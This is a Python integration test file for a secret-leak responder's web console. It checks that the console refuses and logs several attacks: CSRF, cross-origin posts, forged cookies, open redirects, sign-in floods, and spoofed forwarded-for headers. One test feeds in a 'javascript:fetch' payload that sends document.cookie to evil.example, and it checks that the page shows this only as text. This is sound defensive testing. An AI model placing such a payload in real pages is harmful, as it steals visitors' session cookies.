"""What a browser cannot be made to send, sent to the console over plain HTTP: forms without their
CSRF token, from another origin or with no origin at all, tampered cookies and pastes, sign-in
floods. Each is refused with its reason code (page, log line, metric) and changes nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator

import httpx
import pytest

from service.tokens import redact
from tests.harness import Sandbox, Service, metric
from tests.integration.console_helpers import CSRF, ConsoleClient
from tests.integration.operator_helpers import TOKENS, operator_env, report

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox() as sb:
        yield sb


@pytest.fixture(scope="module")
def service(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    svc = Service(tmp_path_factory.mktemp("service"), {**sandbox.env(), **operator_env()}).start()
    yield svc
    svc.stop()


@pytest.fixture(scope="module")
def alice(service: Service) -> ConsoleClient:
    client = ConsoleClient(service)
    assert client.sign_in().status_code == 303
    return client


def refused(response: httpx.Response, status: int, reason: str, service: Service) -> None:
    """The page names the reason; the log line and the failures metric carry it under `console`."""
    assert response.status_code == status, response.text
    assert f'<code id="reason">{reason}</code>' in response.text or "signin-error" in response.text
    assert any(r.get("stage") == "console" for r in service.logged(reason))
    text = httpx.get(f"{service.url}/metrics").text
    assert metric(text, "leak_responder_failures_total", stage="console", reason=reason) >= 1


def csrf_of(client: ConsoleClient, path: str = "/console/") -> str:
    found = CSRF.search(client.get(path).text)
    assert found is not None
    return found.group(1)


def stuck_incident(service: Service, sandbox: Sandbox, token: str) -> str:
    sandbox.supermemory.set_knobs(never_revoke=True)
    try:
        incident_id = report(service, {"tokens": [token]}).json()["findings"][0]["incident_id"]
        service.wait_state(token, "unconfirmed", timeout=30)
    finally:
        sandbox.supermemory.set_knobs(never_revoke=False)
    return incident_id


def test_pages_carry_strict_headers_and_an_httponly_strict_cookie(service, alice):
    page = alice.get("/console/incidents")
    assert page.status_code == 200
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy and "unsafe" not in policy
    assert page.headers["x-frame-options"] == "DENY" and page.headers["cache-control"] == "no-store"
    login = httpx.get(f"{service.url}/console/login")
    cookie = login.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/console" in cookie
    assert "Secure" not in cookie  # loopback
    elsewhere = httpx.get(f"{service.url}/console/login", headers={"Host": "console.example.com"})
    assert "; Secure" in elsewhere.headers["set-cookie"]


def test_a_form_without_its_csrf_token_is_refused_and_changes_nothing(service, sandbox, alice):
    incident_id = stuck_incident(service, sandbox, sandbox.tokens[0])
    events = service.events(sandbox.tokens[0])
    refused(alice.post(f"/console/incidents/{incident_id}/retry", {"go": "1"}), 403, "csrf_invalid", service)
    wrong = alice.post(f"/console/incidents/{incident_id}/retry", {"csrf": "x" * 32})
    refused(wrong, 403, "csrf_invalid", service)
    assert service.events(sandbox.tokens[0]) == events
    assert service.state(sandbox.tokens[0]) == "unconfirmed"
    refused(alice.post("/console/logout", {"go": "1"}), 403, "csrf_invalid", service)
    assert alice.get("/console/incidents").status_code == 200  # still signed in

    # With its token the same form works, and a second retry finds nothing to retry.
    done = alice.post(f"/console/incidents/{incident_id}/retry", {"csrf": csrf_of(alice)})
    assert done.status_code == 303 and done.headers["location"].endswith("?retried=1")
    service.wait_state(sandbox.tokens[0], "confirmed")
    again = alice.post(f"/console/incidents/{incident_id}/retry", {"csrf": csrf_of(alice)})
    assert again.status_code == 409 and "nothing to retry" in again.text
    assert any(r.get("stage") == "console" for r in service.logged("incident_not_retryable"))
    missing = alice.post("/console/incidents/inc_000000000000deadbeef0000/retry", {"csrf": csrf_of(alice)})
    refused(missing, 404, "incident_not_found", service)


def test_a_cross_origin_post_is_refused(service, sandbox, alice):
    token = csrf_of(alice)
    form = {"csrf": token, "text": f"key {sandbox.tokens[1]}"}
    evil = alice.post("/console/report/scan", form, Origin="https://evil.example")
    refused(evil, 403, "origin_refused", service)
    # No Origin and no Referer is refused too; a same-host Referer stands in for a missing Origin.
    bare = alice.http.post("/console/report/scan", data=form)
    refused(bare, 403, "origin_refused", service)
    via_referer = alice.http.post(
        "/console/report/scan", data=form, headers={"Referer": f"{service.url}/console/report"}
    )
    assert via_referer.status_code == 200 and redact(sandbox.tokens[1]) in via_referer.text
    assert sandbox.tokens[1] not in via_referer.text
    # Sign-in from another site is refused before the token is even looked at.
    outsider = ConsoleClient(service)
    signin = {"csrf": outsider.csrf(), "token": TOKENS["bob"], "next": "/console/"}
    answer = outsider.http.post("/console/login", data=signin, headers={"Origin": "http://127.0.0.1:1"})
    assert answer.status_code == 403 and "another site" in answer.text
    refused(answer, 403, "origin_refused", service)


def test_sign_in_needs_the_forms_csrf_token(service):
    client = ConsoleClient(service)
    client.csrf()
    answer = client.post("/console/login", {"token": TOKENS["bob"]})
    assert answer.status_code == 403 and "leak_responder_console=" in answer.headers["set-cookie"]
    assert "CSRF" in answer.text
    refused(answer, 403, "csrf_invalid", service)
    assert client.get("/console/").status_code == 303  # not signed in


def test_failed_sign_ins_are_rate_limited_per_address(service):
    flood = ConsoleClient(service, local_address="127.0.0.2")
    for _ in range(5):
        wrong = flood.sign_in(token="guess")
        assert wrong.status_code == 403 and "not an operator" in wrong.text
    limited = flood.sign_in("alice")
    assert limited.status_code == 429 and 1 <= int(limited.headers["retry-after"]) <= 301
    refused(limited, 429, "signin_rate_limited", service)
    assert flood.get("/console/").status_code == 303
    assert any(
        r.get("stage") == "console" and r.get("client") == "127.0.0.2"
        for r in service.logged("auth_forbidden")
    )
    # Another address is not held back by that flood.
    other = ConsoleClient(service, local_address="127.0.0.3")
    assert other.sign_in("bob").status_code == 303
    assert other.get("/console/").status_code == 200
    empty = ConsoleClient(service, local_address="127.0.0.4").sign_in(token=" ")
    assert empty.status_code == 401


def test_a_tampered_or_foreign_session_cookie_signs_nobody_in(service, alice):
    cookie = alice.http.cookies["leak_responder_console"]
    payload, _, signature = cookie.partition(".")
    forged = payload.replace(payload[:4], "eyJv") + "." + signature[::-1]
    for value in (forged, "garbage", f"{payload}.{signature[:-2]}"):
        client = ConsoleClient(service)
        client.http.cookies.set("leak_responder_console", value, path="/console")
        answer = client.get("/console/incidents")
        assert answer.status_code == 303 and answer.headers["location"].startswith("/console/login?next=")
    assert any(r.get("stage") == "console" for r in service.logged("session_invalid"))
    # A sign-in page's pre-session is not a session either.
    anonymous = ConsoleClient(service)
    anonymous.csrf()
    assert anonymous.get("/console/").status_code == 303
    refused(anonymous.post("/console/logout", {"csrf": anonymous.csrf()}), 401, "session_invalid", service)


def test_sign_in_redirects_only_within_the_console(service):
    def landing(target: str) -> str:
        client = ConsoleClient(service)
        form = {"csrf": client.csrf(), "token": TOKENS["alice"], "next": target}
        answer = client.post("/console/login", form)
        assert answer.status_code == 303
        return answer.headers["location"]

    for target in ("https://evil.example/", "//evil.example/console/", "/console/\\evil", "/v1/incidents"):
        assert landing(target) == "/console/", target
    assert landing("/console/incidents?state=closed") == "/console/incidents?state=closed"


def test_report_forms_refuse_what_they_did_not_send(service, sandbox, alice):
    token = sandbox.tokens[2]
    as_json = alice.http.post(
        "/console/report/scan", json={"csrf": csrf_of(alice), "text": token}, headers=alice.origin
    )
    refused(as_json, 400, "form_invalid", service)
    noted = alice.post(
        "/console/report/scan", {"csrf": csrf_of(alice), "text": "x", "note": f"it was {token}"}
    )
    assert noted.status_code == 400 and "note holds a key" in noted.text and token not in noted.text
    assert any(r.get("stage") == "console" for r in service.logged("report_note_holds_key"))

    review = alice.post("/console/report/scan", {"csrf": csrf_of(alice), "text": f"k={token}"})
    sealed = re.search(r'name="sealed" value="([^"]+)"', review.text).group(1)
    refused(
        alice.post("/console/report", {"csrf": csrf_of(alice), "sealed": sealed[:-4]}),
        400,
        "paste_invalid",
        service,
    )
    # Sealed for alice: bob cannot submit it.
    bob = ConsoleClient(service)
    bob.sign_in("bob")
    refused(
        bob.post("/console/report", {"csrf": csrf_of(bob), "sealed": sealed}), 400, "paste_invalid", service
    )
    assert service.incident(token) is None

    alerts = service.count("alerts")
    first = alice.post("/console/report", {"csrf": csrf_of(alice), "sealed": sealed})
    second = alice.post("/console/report", {"csrf": csrf_of(alice), "sealed": sealed})
    assert first.status_code == second.status_code == 200
    incident_id = service.incident(token)["id"]
    assert incident_id in first.text and incident_id in second.text
    assert service.count("alerts") == alerts + 1  # a double submit is one report, not two


def test_behind_a_trusted_proxy_sign_ins_are_limited_per_forwarded_client(make_service):
    """Behind an ingress every TCP peer is the proxy: counted by peer, one stranger's guesses would
    lock every operator out. A hop is believed only from a trusted proxy, so a client writing its own
    `X-Forwarded-For` does not get a fresh allowance with each value."""
    svc = make_service({**operator_env(), "LEAK_RESPONDER_TRUSTED_PROXIES": "127.0.0.5/32"})
    guesser = ConsoleClient(svc, local_address="127.0.0.5", forwarded_for="198.51.100.7")
    for _ in range(5):
        assert guesser.sign_in(token="guess").status_code == 403
    refused(guesser.sign_in("alice"), 429, "signin_rate_limited", svc)
    assert any(r.get("client") == "198.51.100.7" for r in svc.logged("signin_rate_limited"))
    # The operator behind the same proxy is another client.
    colleague = ConsoleClient(svc, local_address="127.0.0.5", forwarded_for="198.51.100.8")
    assert colleague.sign_in("bob").status_code == 303
    # Not a trusted proxy: the header is the client's own words, and the peer is what counts.
    for spoofed in range(5):
        direct = ConsoleClient(svc, local_address="127.0.0.6", forwarded_for=f"203.0.113.{spoofed}")
        assert direct.sign_in(token="guess").status_code == 403
    again = ConsoleClient(svc, local_address="127.0.0.6", forwarded_for="203.0.113.99")
    refused(again.sign_in("alice"), 429, "signin_rate_limited", svc)


def test_dry_run_is_shown_loudly_on_every_page(make_service):
    dry = make_service({**operator_env(), "LEAK_RESPONDER_MODE": "dry-run"})
    client = ConsoleClient(dry)
    assert client.sign_in().status_code == 303
    for path in ("/console/", "/console/incidents", "/console/report"):
        page = client.get(path).text
        assert '<span class="mode mode-dry"' in page and 'class="banner banner-dry" role="alert"' in page
    assert "<strong>DRY-RUN:</strong>" in client.get("/console/").text
    # Not to strangers: the sign-in page says nothing of the mode.
    assert "DRY-RUN" not in ConsoleClient(dry).get("/console/login").text


def test_a_sighting_url_is_a_link_only_when_it_is_http(service, sandbox, alice):
    token = sandbox.tokens[3]
    hostile = "javascript:fetch('https://evil.example/'+document.cookie)"
    assert service.post_alert(sandbox.github, [token], url=hostile).status_code == 200
    assert (
        service.post_alert(sandbox.github, [token], url="https://github.com/o/r/blob/main/a.env").status_code
        == 200
    )
    page = alice.get(f"/console/incidents/{service.incident(token)['id']}").text
    assert 'href="https://github.com/o/r/blob/main/a.env"' in page
    assert "javascript:fetch(&#39;https://evil.example/&#39;+document.cookie)" in page  # shown, as text
    assert 'href="javascript:' not in page
